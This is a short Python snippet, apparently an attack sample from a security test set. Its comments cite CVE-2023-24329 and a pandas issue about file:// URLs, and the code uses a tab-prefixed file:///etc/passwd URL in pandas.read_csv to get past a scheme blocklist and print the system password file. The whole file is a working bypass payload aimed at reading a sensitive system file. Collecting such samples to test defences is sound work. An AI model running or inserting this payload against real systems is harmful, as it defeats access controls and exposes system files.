# source: CVE-2023-24329 (urllib.parse strips leading C0/space; bypasses scheme blocklists) + pandas-dev/pandas#970 (readers accept file:// URLs)
# family: URL with leading whitespace/control char: check treats literal as relative path, pandas is_url() sees file://
# goal: read /etc/passwd
import pandas as pd
print(pd.read_csv("\tfile:///etc/passwd", header=None, sep="\t").to_string())
